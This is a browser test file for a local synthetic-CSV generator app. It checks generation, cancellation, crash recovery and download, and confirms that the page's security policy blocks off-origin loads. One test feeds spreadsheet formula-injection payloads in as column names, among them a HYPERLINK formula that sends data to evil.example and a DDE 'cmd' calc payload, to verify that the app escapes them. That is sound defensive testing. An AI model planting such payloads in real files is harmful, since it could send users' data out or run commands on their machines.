/**
 * The built app in headless Chromium, driven as a user would: drop a file, edit the schema, generate with kNNMTD,
 * cancel a long run, survive a worker crash, download and re-read the synthetic CSV. Every request the page and
 * its workers make is recorded: anything off 127.0.0.1 fails the test (and is aborted).
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import Papa from 'papaparse';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  downloadCsv,
  dropFile,
  generate,
  loadDemo,
  parseCsvText,
  selectGenerator,
  setField,
  waitIdle,
} from '../support/app-driver.js';
import {
  browserSkipReason,
  openApp,
  TEST_DATA,
  startApp,
  type AppHarness,
  type GuardedContext,
} from '../support/browser.js';

const skip = browserSkipReason();

/**
 * caesarian.csv (80 × 6) with its `Deliverytime` codes written as the UCI labels (0 timely, 1 premature,
 * 2 latecomer), so the file has a text category as well as integer columns.
 */
function caesarianWithLabels(): string {
  const labels = ['timely', 'premature', 'latecomer'];
  const lines = readFileSync(join(TEST_DATA, 'caesarian.csv'), 'utf8').trim().split(/\r?\n/);
  const header = lines[0]!.split(',');
  const j = header.indexOf('Deliverytime');
  const body = lines.slice(1).map((l) => {
    const f = l.split(',');
    f[j] = labels[Number(f[j])]!;
    return f.join(',');
  });
  return [lines[0], ...body].join('\n') + '\n';
}

function columnValues(rows: string[][], j: number): Set<string> {
  return new Set(rows.map((r) => r[j]!));
}

/**
 * urban_land.csv (675 × 148): kNNMTD's automatic k takes seconds here (8 k values, each a full synthetic table
 * scored by PCD), long enough to cancel or crash mid-run.
 */
async function dropUrbanLand(page: Page): Promise<void> {
  await dropFile(page, 'urban_land.csv', readFileSync(join(TEST_DATA, 'urban_land.csv'), 'utf8'));
  await expect.poll(() => page.getByTestId('shape').textContent()).toBe('675 rows × 148 columns');
  await waitIdle(page);
}

/** Quick settings for the run after a cancel or crash: fixed k, few rows. */
async function setQuick(page: Page, rows: string): Promise<void> {
  await setField(page, 'Neighbours k', '3');
  await setField(page, 'Rows to generate', rows);
}

/** After each test: no request left the machine, no CSP violation or uncaught error in the page. */
function expectClean(g: GuardedContext): void {
  expect(g.offOrigin).toEqual([]);
  expect(g.pageErrors).toEqual([]);
  expect(g.requests.length).toBeGreaterThan(0);
}

describe.skipIf(skip !== null)('LocalSynth web app (built, headless Chromium)', () => {
  let h: AppHarness;
  beforeAll(async () => {
    h = await startApp();
  });
  afterAll(async () => {
    await h?.close();
  });

  it('drop → schema edit → kNNMTD (auto k) → download: the CSV matches the input header, row count and labels', async () => {
    const g = await openApp(h);
    const page: Page = g.page;
    const input = caesarianWithLabels();
    const inParsed = parseCsvText(input);
    await dropFile(page, 'caesarian.csv', input);
    await expect.poll(() => page.getByTestId('shape').textContent()).toBe('80 rows × 6 columns');
    // an 80-row table gets GenerativeMTD by default; this test is about kNNMTD
    expect(await page.getByLabel('Method', { exact: true }).inputValue()).toBe('gmtd');
    await selectGenerator(page, 'knnmtd');
    expect(await page.getByTestId('delimiter').textContent()).toBe('comma');
    expect((await page.getByTestId('encoding').textContent())?.toLowerCase()).toContain('utf');
    // the text column was read as categorical
    expect(await page.getByLabel('Type of Deliverytime').inputValue()).toBe('categorical');
    // no target unless the user picks one
    expect(await page.getByLabel('Target column').inputValue()).toBe('');

    // edit a type away and back: nothing is lost (the summary stays, and the run below works)
    const ageSummary = await page.locator('tr[data-column="Age"] td.summary').textContent();
    await page.getByLabel('Type of Age').selectOption('id');
    await page.getByLabel('Type of Age').selectOption('numerical');
    expect(await page.locator('tr[data-column="Age"] td.summary').textContent()).toBe(ageSummary);
    // the real edit: Age as categorical → synthetic ages must be ages seen in the input
    await page.getByLabel('Type of Age').selectOption('categorical');
    expect(await page.getByLabel('Type of Age').getAttribute('class')).toContain('edited');
    // a target: the task type follows its sdtype
    await page.getByLabel('Target column').selectOption('Caesarian');
    expect(await page.getByTestId('task').textContent()).toContain('classification');

    await setField(page, 'Rows to generate', '150');
    await generate(page);
    await page.getByTestId('result').waitFor();
    expect(await page.getByTestId('result-rows').textContent()).toBe('150 rows × 6 columns');
    expect(await page.getByTestId('fit-notes').textContent()).toMatch(/chosen automatically/);
    // the PCD of each k tried is listed, and one is marked as chosen
    const kRows = page.locator('[data-testid=kscores] li');
    expect(await kRows.count()).toBeGreaterThanOrEqual(2);
    expect(await page.locator('[data-testid=kscores] li.chosen').count()).toBe(1);

    const { name, bytes } = await downloadCsv(page);
    expect(name).toBe('caesarian.synthetic.csv');
    const out = parseCsvText(bytes.toString('utf8'));
    expect(out.header).toEqual(inParsed.header);
    expect(out.rows.length).toBe(150);
    for (const [j, col] of out.header.entries()) {
      const inVals = columnValues(inParsed.rows, j);
      const outVals = columnValues(out.rows, j);
      const allIntegerIn = [...inVals].every((v) => /^-?\d+$/.test(v));
      if (col === 'Deliverytime' || col === 'Age' || col === 'Caesarian') {
        // categorical: every synthetic label is a label of the input
        for (const v of outVals) expect(inVals.has(v), `${col}: "${v}" is not an input label`).toBe(true);
      } else if (allIntegerIn) {
        for (const v of outVals) expect(v, `${col} must stay whole`).toMatch(/^-?\d+$/);
      }
    }
    expectClean(g);
    await g.context.close();
  });

  it('column names a spreadsheet would run (=HYPERLINK, +cmd|, @SUM, -2+3) are escaped in the download, and read back', async () => {
    const g = await openApp(h);
    const page: Page = g.page;
    const names = [
      '=HYPERLINK("http://evil.example/?d="&B2,"open")',
      "+cmd|' /C calc'!A0",
      '@SUM(A1:A9)',
      '-2+3',
      'plain',
    ];
    const rows = Array.from({ length: 40 }, (_, i) =>
      [(i * 7) % 23, i % 3 === 0 ? 'a' : 'b', ['x', 'y', 'z'][i % 3], ((i * 13) % 17) / 4, 20 + (i % 9)].join(','),
    );
    await dropFile(page, 'formulas.csv', [Papa.unparse([names]), ...rows].join('\n') + '\n');
    await expect.poll(() => page.getByTestId('shape').textContent()).toBe('40 rows × 5 columns');
    await selectGenerator(page, 'knnmtd');
    await setQuick(page, '25');
    await generate(page);
    expect(await page.getByTestId('error').count()).toBe(0);
    const { bytes } = await downloadCsv(page);
    const text = bytes.toString('utf8');
    // as a spreadsheet sees the file: every formula-like name behind a ', i.e. text
    expect(parseCsvText(text).header).toEqual(names.map((n) => (n === 'plain' ? n : `'${n}`)));
    expect(parseCsvText(text).rows.length).toBe(25);
    // and LocalSynth reads its own file back under the original names
    await dropFile(page, 'formulas.synthetic.csv', text);
    await expect.poll(() => page.getByTestId('shape').textContent()).toBe('25 rows × 5 columns');
    expect(
      await page.locator('tr[data-column]').evaluateAll((trs) => trs.map((tr) => tr.getAttribute('data-column'))),
    ).toEqual(names);
    expectClean(g);
    await g.context.close();
  });
  it('Cancel stops a long run ("Cancelled."), keeps the last result, and a later Generate works', async () => {
    const g = await openApp(h);
    const page = g.page;
    await loadDemo(page);
    await selectGenerator(page, 'knnmtd'); // kept for the urban land table below
    await generate(page);
    await page.getByTestId('result').waitFor();
    const firstPreview = await page.getByRole('table', { name: 'Synthetic preview' }).textContent();

    await dropUrbanLand(page);
    await page.getByRole('button', { name: 'Generate', exact: true }).click();
    await page.getByTestId('progress').waitFor();
    // stage and percent, from the worker's Progress reports
    await expect
      .poll(() => page.getByTestId('progress').textContent())
      .toMatch(/Choosing k automatically \(trying k = \d+\)\s*\d+%/);
    // the PCD of each k shows up live, while the other k are still being tried
    await page.locator('[data-testid=kscores] li').first().waitFor();
    expect(await page.getByTestId('kscores').textContent()).toContain('Trying more values of k');
    // the page is responsive during the run: a frame gets painted while the worker computes
    const phaseInFrame = await page.evaluate(
      () =>
        new Promise<string>((r) =>
          requestAnimationFrame(() =>
            r((window as unknown as { __ls: { app: { run: { phase: string } } } }).__ls.app.run.phase),
          ),
        ),
    );
    expect(phaseInFrame).toBe('generating');
    await page.getByRole('button', { name: 'Cancel' }).click();
    await waitIdle(page, 30_000);
    expect(await page.getByTestId('notice').textContent()).toBe('Cancelled.');
    expect(await page.getByTestId('error').count()).toBe(0);
    // the previous result is still shown
    expect(await page.getByRole('table', { name: 'Synthetic preview' }).textContent()).toBe(firstPreview);

    await setQuick(page, '120');
    await generate(page);
    expect(await page.getByTestId('result-rows').textContent()).toBe('120 rows × 148 columns');
    expect(await page.getByTestId('notice').count()).toBe(0);
    expectClean(g);
    await g.context.close();
  });

  it('a crashed worker becomes a WORKER_CRASHED message with Retry; the dataset is kept and Retry works', async () => {
    const g = await openApp(h);
    const page = g.page;
    await dropUrbanLand(page);
    await selectGenerator(page, 'knnmtd');
    await page.getByRole('button', { name: 'Generate', exact: true }).click();
    await page.getByTestId('progress').waitFor();
    await page.evaluate(() =>
      (window as unknown as { __ls: { bridge: { simulateCrash(): void } } }).__ls.bridge.simulateCrash(),
    );
    await waitIdle(page, 10_000);
    const box = page.getByTestId('error');
    await expect.poll(() => box.locator('code').textContent()).toBe('WORKER_CRASHED');
    expect(await box.textContent()).toMatch(/worker stopped/);
    expect(await page.getByTestId('shape').textContent()).toBe('675 rows × 148 columns');

    await setQuick(page, '90');
    await box.getByRole('button', { name: 'Retry' }).click();
    await waitIdle(page);
    expect(await page.getByTestId('error').count()).toBe(0);
    expect(await page.getByTestId('result-rows').textContent()).toBe('90 rows × 148 columns');
    // the fresh worker was given the dataset again by the bridge
    const started = await page.evaluate(
      () => (window as unknown as { __ls: { bridge: { workersStarted: number } } }).__ls.bridge.workersStarted,
    );
    expect(started).toBe(2);
    expectClean(g);
    await g.context.close();
  });
  it('the CSP blocks off-origin connections, scripts and images from inside the page', async () => {
    const g = await openApp(h);
    const violations = await g.page.evaluate(async () => {
      const seen: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective));
      await fetch('http://192.0.2.1/x').catch(() => {});
      const img = document.createElement('img');
      img.src = 'http://192.0.2.1/pixel.png';
      document.body.append(img);
      const s = document.createElement('script');
      s.src = 'http://192.0.2.1/x.js';
      document.body.append(s);
      await new Promise((r) => setTimeout(r, 300));
      return seen.sort();
    });
    // each was refused by the page's own policy (the route abort in the harness is only a second net)
    expect(violations).toEqual(['connect-src', 'img-src', 'script-src-elem']);
    await g.context.close();
  });
});
